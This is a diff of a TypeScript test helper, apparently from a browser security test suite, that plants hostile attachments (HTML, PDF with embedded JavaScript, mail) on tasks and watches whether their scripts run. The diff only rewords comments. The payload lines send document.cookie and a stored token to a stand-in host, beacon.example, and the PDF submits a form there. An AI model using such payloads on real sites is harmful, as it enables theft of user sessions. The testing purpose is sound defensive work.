@@ -8,7 +8,10 @@ import { read } from './task-record-support.ts'
 
 const BEACON = 'https://beacon.example/'
 
-/** What a planted script would do: leave a mark, ask, and carry away what the browser keeps. */
+/**
+ * The actions of a planted script: write a mark, send the browser's cookie and token away, and open
+ * a dialog.
+ */
 const LOUD = [
   "localStorage.setItem('planted', 'yes')",
   `new Image().src = '${BEACON}?' + encodeURIComponent(document.cookie + localStorage.getItem('token'))`,
@@ -26,7 +29,7 @@ const STYLED = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data
 const PAPER = `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('${BEACON}'\\))>>/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`
 const MAIL = `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${PAGE}`
 
-/** Files that would be heard and seen, were one of them shown. */
+/** Files whose scripts are detected if the browser renders one of them. */
 export const LOUD_FILES = (
   [
     ['planted.html', PAGE, 'text/html'],
@@ -61,25 +64,28 @@ const isTaken = ({ ends, bytes }: HostileFile) => !('status' in ends) && bytes.l
 const isDrawn = ({ ends }: HostileFile) => 'drawn' in ends && ends.drawn === true
 const isPicture = ({ name }: HostileFile) => name.startsWith('as a picture')
 
-/** All that a task takes, but for what is only large and for broken pictures. */
+/** All files that a task accepts, except very large ones and broken pictures. */
 export const takenFiles = async (): Promise<HostileFile[]> => [
   ...LOUD_FILES,
   ...(await hostileFiles()).filter((one) => isTaken(one) && !isPicture(one)),
 ]
 
-/** Pictures that are more than that: of these the page shows what the product has drawn. */
+/**
+ * Pictures with additional content: the page shows only the images that the product rendered from
+ * them.
+ */
 export const drawnFiles = async (): Promise<HostileFile[]> =>
   (await hostileFiles())
     .filter((one) => isTaken(one) && isDrawn(one))
     .map((one, at) => ({ ...one, filename: `${at + 1} ${one.filename}` }))
 
-/** A hostile file on its task. */
+/** A hostile file attached to a task. */
 export interface Planted {
   sent: HostileFile
   file: Attachment
 }
 
-/** Puts files on a task, whatever their heads say, and reads their links as somebody else. */
+/** Attaches files to a task with any claimed types, and reads their links as another user. */
 export async function plant(
   { by, reader, id }: { by: Account; reader: Account; id: string },
   files: readonly HostileFile[],
@@ -106,7 +112,7 @@ export async function plant(
   })
 }
 
-/** Hears whatever a script of somebody else would do in a browser. */
+/** Records whatever a planted script does in a browser. */
 export async function watch(context: BrowserContext) {
   const heard: string[] = []
   await context.route(`${BEACON}**`, (route) => {
@@ -122,7 +128,7 @@ export async function watch(context: BrowserContext) {
   context.on('page', listen)
   return {
     heard,
-    /** What a script has left on a page of the product. */
+    /** The mark that a script left on a page of the product. */
     left: (page: Page) => page.evaluate(() => localStorage.getItem('planted')),
   }
 }
